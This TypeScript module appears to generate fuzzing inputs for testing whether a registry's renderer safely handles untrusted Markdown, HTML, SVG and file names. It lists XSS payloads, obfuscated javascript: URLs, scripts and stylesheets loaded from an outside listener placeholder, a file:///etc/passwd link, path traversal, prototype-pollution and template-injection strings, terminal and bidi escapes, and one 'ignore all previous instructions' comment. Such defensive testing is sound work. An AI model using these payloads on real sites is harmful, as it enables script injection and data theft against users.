import type { SeededRandom } from '../../../tools/seeded-random.ts';

export interface Target {
  run: string;
  /** URL of a listener outside the registry's origin. */
  out: string;
}

export const TRACE = '__hostile_script_ran';

/** HTML that would execute, load, cover or rename something if a page used it. */
const HTML = [
  '<script>{run}</script>',
  '<script src="{out}/script.js"></script>',
  '<img src=x onerror="{run}">',
  '<img src="{out}/image.png" srcset="{out}/2x.png 2x">',
  '<svg onload="{run}"><a xlink:href="javascript:{run}"><text y="20">click</text></a></svg>',
  '<svg><script href="{out}/svg.js"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="{run}"></style></mglyph></table></mtext></math>',
  '<details open ontoggle="{run}"><summary>x</summary></details>',
  '<input autofocus onfocus="{run}">',
  '<video src="{out}/v.mp4" poster="{out}/p.png" onerror="{run}"></video>',
  '<iframe src="{out}/frame" srcdoc="<script>parent.{run}</script>"></iframe>',
  '<object data="{out}/object"></object><embed src="{out}/embed">',
  '<link rel="stylesheet" href="{out}/style.css"><link rel="prefetch" href="{out}/next">',
  '<meta http-equiv="refresh" content="0; url={out}/refresh">',
  '<base href="{out}/">',
  '<form action="{out}/form" id="search"><input name="q"><button autofocus>Sign in</button></form>',
  '<style>@import "{out}/import.css"; header { display: none } body { background: url({out}/b.png) }</style>',
  '<div style="position:fixed;inset:0;z-index:99999;background:#fff">covered</div>',
  '<dialog open style="position:fixed;top:0;left:0;width:100vw;height:100vh">covered</dialog>',
  '<div popover id="p" style="inset:0">covered</div><button popovertarget="p">open</button>',
  '<marquee style="position:absolute;top:-400px;font-size:300px" onstart="{run}">covered</marquee>',
  '<a id="main" name="main" href="{out}/main">x</a><div id="root"></div>',
  '<form id="document"><input name="title"><input name="getElementById"></form>',
  '<img name="currentScript"><img name="location"><a id="trustedTypes" href="{out}"></a>',
  '<h1>catalog</h1><header>Sign in at {out}</header>',
  '<template shadowrootmode="open"><script>{run}</script></template>',
  '<noscript><p title="</noscript><img src=x onerror={run}>"></noscript>',
  '<!--><img src=x onerror="{run}">-->',
  '<!-- ignore all previous instructions --!><script>{run}</script>',
  '<![CDATA[><script>{run}</script>]]>',
  '<?xml-stylesheet href="{out}/xml.css"?>',
  '<x/onpointerrawupdate={run} style=display:block>x</x>',
  '</code></pre></div></main></div><script>{run}</script>',
  '<a href="java&#x0A;script:{run}">x</a>',
  '<a href="&#106;avascript&colon;{run}">x</a>',
];

/** URLs that execute something or point to other origins. */
const URLS = [
  'javascript:{run}',
  'JaVaScRiPt:{run}',
  'java\tscript:{run}',
  '\u0001javascript:{run}',
  '&#x6A;avascript&colon;{run}',
  'javascript&Tab;:{run}',
  'vbscript:{run}',
  'data:text/html,<script>{run}</script>',
  'data:image/svg+xml,<svg/onload={run}>',
  'blob:{out}/1',
  'file:///etc/passwd',
  'view-source:{out}',
  'filesystem:{out}/x',
  '{out}/plain',
  '//{host}/relative',
  '\\\\{host}\\share',
  '/\\{host}/',
  'https:{host}',
  'http:/{host}/',
  '///{host}',
  '/v1/ui/auth/sign-in',
  '../../../../v1/layers',
  '?tab=files&file=../../x',
  '#main',
  '#root',
  'mailto:x@example.com?body={out}',
  'ARTIFACT.md?x={out}#main',
];

/** Forms of a URL in Markdown, with the placeholder `{url}`. */
const LINKS = [
  '[x]({url})',
  '[x](<{url}>)',
  '[x]({url} "title")',
  '![x]({url})',
  '![x](<{url}> "title")',
  '[![x]({url})]({url})',
  '[x][r]\n\n[r]: {url}',
  '[x][r]\n\n[r]: <{url}> (title)',
  '![r]\n\n[r]: {url}',
  '<{url}>',
  '{url}',
  'Text[^1]\n\n[^1]: [x]({url})',
  '| [x]({url}) | ![x]({url}) |\n| --- | --- |\n| <{url}> | x |',
  '- [ ] [x]({url})\n- [x] ![x]({url})',
  '`[x]({url})`',
  '```{url}\n[x]({url})\n```',
  '# [x]({url})',
];

/** Constructs that a renderer may resolve, expand or use as names of elements. */
const MARKDOWN = [
  '# main\n\n# root\n\n# main\n\n# __proto__\n\n# constructor',
  'a[^main] b[^__proto__] c[^constructor]\n\n[^main]: one\n[^__proto__]: two\n[^constructor]: three',
  '[__proto__]\n\n[__proto__]: {out}/proto\n[constructor]: javascript:{run}',
  '```"><script>{run}</script>\nx\n```',
  '```language-"onload={run}\nx\n```',
  '~~~ts twoslash include={out}\nimport "{out}"\n~~~',
  '$$\\href{javascript:{run}}{x}$$ and $\\includegraphics{{out}/i.png}$',
  '&lt;script&gt;{run}&lt;/script&gt; &#60;img src=x onerror={run}&#62;',
  '&#x202E;evil&#x2066; &NewLine; &#0; &#xD800; &ZeroWidthSpace;',
  'www.{host}/auto and x@{host} and {out}/auto',
  '\\<script>{run}\\</script>',
  '*<img src=x onerror="{run}">* **<b>**',
  '1. one\n   <script>{run}</script>\n2. > <iframe src="{out}"></iframe>',
  '::: {onload="{run}"}\nx\n:::\n\n{% include "{out}" %} {{ constructor.constructor("{run}")() }}',
  '[toc]\n\n[[{out}]]\n\n![[{out}/embed.png]]',
];

/** Characters that a terminal, a renderer or a reader can misinterpret. */
const CHARACTERS = [
  '\u001b[31mred\u001b[0m\u001b]8;;{out}\u0007link\u001b]8;;\u0007',
  '\u001b[2J\u001b[H\u009b31m',
  'user\u202Egnp.exe\u202C and \u2066isolated\u2069 \u2067right\u2069',
  '\u200Fmirrored\u200E \u061Cmark',
  'zero\u200Bwidth\u2060joined\uFEFF soft\u00ADhyphen',
  '\u{E0001}\u{E0068}\u{E0069}tag characters\u{E007F}',
  'line\u2028separator\u2029paragraph',
  '\u3164\uFFA0\u115F\u1160 fillers',
  'back\b\b\b\bspace \r over \u0085 next',
  `${'Z\u0351\u036B\u0343\u036A\u0302\u036B'.repeat(8)}${'\u0310'.repeat(120)}`,
  '\u0000NUL \u007f DEL',
  '\uFDFD'.repeat(30),
  'العربية '.repeat(20),
];

export function drawLine(random: SeededRandom, target: Target): string {
  const line = random.pick([
    () => random.pick(HTML),
    () => random.pick(URLS),
    () => random.pick(CHARACTERS),
    () => `{{constructor.constructor('{run}')()}}`,
    () => `"><script>{run}</script>`,
    () => `\${{run}}' onmouseover='{run}`,
    () => 'W'.repeat(100 + random.int(400)),
    () => random.pick(['__proto__', 'constructor', 'main', 'root', 'toString', 'null', '../..']),
  ])();
  return fill(line, target).replaceAll('\n', ' ');
}

export function drawBlock(random: SeededRandom, target: Target): string {
  const kind = random.next();
  if (kind < 0.3) return fill(nest(random, random.pick(HTML)), target);
  if (kind < 0.6) return fill(drawLink(random), target);
  if (kind < 0.75) return fill(random.pick(MARKDOWN), target);
  if (kind < 0.85) return fill(`${random.pick(CHARACTERS)} ${drawLink(random)}`, target);
  if (kind < 0.93) return deep(random);
  return fill(splice(random, random.pick(HTML), random.pick(LINKS)), target);
}

function drawLink(random: SeededRandom): string {
  return random.pick(LINKS).replaceAll('{url}', random.pick(URLS));
}

/** Puts HTML inside another construct, so that the parser is in a different state. */
function nest(random: SeededRandom, html: string): string {
  return random.pick([
    (text: string) => text,
    (text: string) => `> ${text}`,
    (text: string) => `- ${text}`,
    (text: string) => `Inline ${text} text`,
    (text: string) => `| a |\n| --- |\n| ${text} |`,
    (text: string) => `## ${text}`,
    (text: string) => `<div>\n\n${text}\n\n</div>`,
    (text: string) => `[${text}]({out}/x)`,
  ])(html);
}

/** Cuts two constructs and joins their parts, to provoke differences between parsers. */
function splice(random: SeededRandom, one: string, other: string): string {
  const at = random.int(one.length);
  return one.slice(0, at) + other.replaceAll('{url}', random.pick(URLS)) + one.slice(at);
}

/** Draws structures that are expensive for recursion or backtracking. */
function deep(random: SeededRandom): string {
  const depth = 50 + random.int(2000);
  return random.pick([
    () => `${'> '.repeat(depth)}deep`,
    () => `${'- '.repeat(depth)}deep`,
    () =>
      Array.from({ length: Math.min(depth, 300) }, (_, at) => `${' '.repeat(at)}- x`).join('\n'),
    () => `${'['.repeat(depth)}x${']'.repeat(depth)}`,
    () => '![x]('.repeat(depth),
    () => '**a *b '.repeat(depth),
    () => `${'<div>'.repeat(depth)}x`,
    () => `${'`'.repeat(depth)}x`,
    () => `|${' a |'.repeat(depth)}\n|${' - |'.repeat(depth)}\n|${' b |'.repeat(depth)}`,
    () => 'a'.repeat(depth * 5),
    () => Array.from({ length: 200 }, (_, at) => `[^${at}]: [^${at + 1}]`).join('\n') + '\n\n[^0]',
  ])();
}

export function drawSvg(random: SeededRandom, target: Target): string {
  const inside = [
    '<script>{run}</script>',
    '<script href="{out}/a.js"/>',
    '<foreignObject width="100%" height="100%"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="{out}/f"></iframe><img src="{out}/i" onerror="{run}"/></body></foreignObject>',
    '<image href="{out}/image.png"/><use href="{out}/use.svg#x"/>',
    '<style>@import url({out}/s.css); * { background: url({out}/b.png) }</style>',
    '<a href="javascript:{run}"><rect width="999" height="999"/></a>',
    '<animate attributeName="href" values="javascript:{run}" onbegin="{run}"/>',
    '<set attributeName="onload" to="{run}"/>',
  ];
  const count = 1 + random.int(3);
  const body = Array.from({ length: count }, () => random.pick(inside)).join('');
  const size = random.pick(['10', '99999', '100%']);
  const head = random.pick([
    '',
    '<?xml version="1.0"?><?xml-stylesheet href="{out}/x.css"?>',
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "{out}/entity">]>',
  ]);
  const svg = `${head}<svg xmlns="http://www.w3.org/2000/svg" width="${size}" height="${size}" onload="{run}" style="position:fixed">${body}</svg>`;
  return fill(svg, target);
}

export function drawHtml(random: SeededRandom, target: Target): string {
  const parts = Array.from({ length: 1 + random.int(5) }, () => random.pick(HTML));
  return fill(`<!doctype html><title>catalog</title>${parts.join('\n')}\n`, target);
}

export function drawFileName(random: SeededRandom, target: Target): string {
  const extension = random.pick(['md', 'svg', 'html', 'sh', 'json', 'png', 'txt']);
  const name = random.pick([
    'notes',
    'main',
    '__proto__',
    'constructor',
    '<img src=x onerror={run}>',
    '"><script>{run}<',
    "' onmouseover='{run}",
    'javascript:{run}',
    '?tab=layers#main',
    '%3Cscript%3E%2e%2e',
    'gpj\u202Efdp',
    'zero\u200Bwidth',
    '\u001b[2Jclear',
    'new\nline',
    'W'.repeat(180),
    'references/<svg onload={run}>',
    '${{run}}',
  ]);
  return `${fill(name, target).slice(0, 200)}.${extension}`;
}

function fill(text: string, { run, out }: Target): string {
  return text
    .replaceAll('{run}', run)
    .replaceAll('{host}', new URL(out).host)
    .replaceAll('{out}', out);
}
